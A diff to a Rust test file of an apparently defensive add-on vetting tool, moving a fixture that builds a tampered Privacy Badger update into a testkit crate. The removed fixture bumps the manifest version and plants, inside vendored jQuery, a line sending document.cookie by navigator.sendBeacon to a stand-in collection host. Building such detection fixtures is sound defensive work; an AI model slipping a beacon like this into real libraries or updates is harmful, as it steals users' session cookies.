@@ -26,7 +26,7 @@ use sha2::{Digest, Sha512};
 mod cli_support;
 mod real_data_support;
 use cli_support::{ok, vetter};
-use real_data_support::{bench_data, tree_path, zip_path};
+use real_data_support::{bench_data, zip_path};
 
 const LIBRARIES: [(&str, &str); 3] = [
     ("jquery", "3.5.1"),
@@ -127,51 +127,6 @@ fn vetter_json(data: &Path, args: &[&str]) -> Value {
     serde_json::from_str(&ok(vetter(data, &all))).expect("vetter prints JSON")
 }
 
-/// Privacy Badger's files with jQuery carrying an injected beacon after its 10,000th line, and
-/// the manifest's version bumped: the update a reviewer must catch.
-fn tampered_privacy_badger() -> Vec<u8> {
-    let root = tree_path("privacy-badger");
-    let mut files = Vec::new();
-    let mut stack = vec![root.clone()];
-    while let Some(dir) = stack.pop() {
-        for entry in std::fs::read_dir(&dir).expect("reads the tree") {
-            let entry = entry.expect("entry");
-            let path = entry.path();
-            if entry.file_type().expect("type").is_dir() {
-                stack.push(path);
-                continue;
-            }
-            let rel = path
-                .strip_prefix(&root)
-                .expect("inside")
-                .to_string_lossy()
-                .into_owned();
-            let mut bytes = std::fs::read(&path).expect("reads a file");
-            if rel == "manifest.json" {
-                let text = String::from_utf8(bytes).expect("UTF-8 manifest");
-                bytes = text
-                    .replacen(
-                        "\"version\": \"2020.10.7\"",
-                        "\"version\": \"2020.10.8\"",
-                        1,
-                    )
-                    .into_bytes();
-            }
-            if rel == "lib/vendor/jquery-3.5.1.js" {
-                let text = String::from_utf8(bytes).expect("UTF-8 jQuery");
-                let mut lines: Vec<&str> = text.split_inclusive('\n').collect();
-                lines.insert(
-                    10_000,
-                    "navigator.sendBeacon('https://collect.badger-stats.example/b', document.cookie);\n",
-                );
-                bytes = lines.concat().into_bytes();
-            }
-            files.push((rel, bytes));
-        }
-    }
-    vetter_fixtures::zip_files(&files)
-}
-
 #[test]
 fn vendored_libraries_endpoints_sinks_and_permissions_of_real_add_ons() {
     let data = tempfile::tempdir().expect("data folder");
@@ -208,7 +163,8 @@ fn vendored_libraries_endpoints_sinks_and_permissions_of_real_add_ons() {
         &["import", old_zip.to_str().expect("UTF-8")],
     ));
     let new_xpi = data.path().join("privacy-badger-2020.10.8.xpi");
-    std::fs::write(&new_xpi, tampered_privacy_badger()).expect("writes the XPI");
+    let tampered = vetter_testkit::tampered_privacy_badger(&old_zip).expect("the zip reads");
+    std::fs::write(&new_xpi, tampered).expect("writes the XPI");
     ok(vetter(
         data.path(),
         &["import", new_xpi.to_str().expect("UTF-8")],
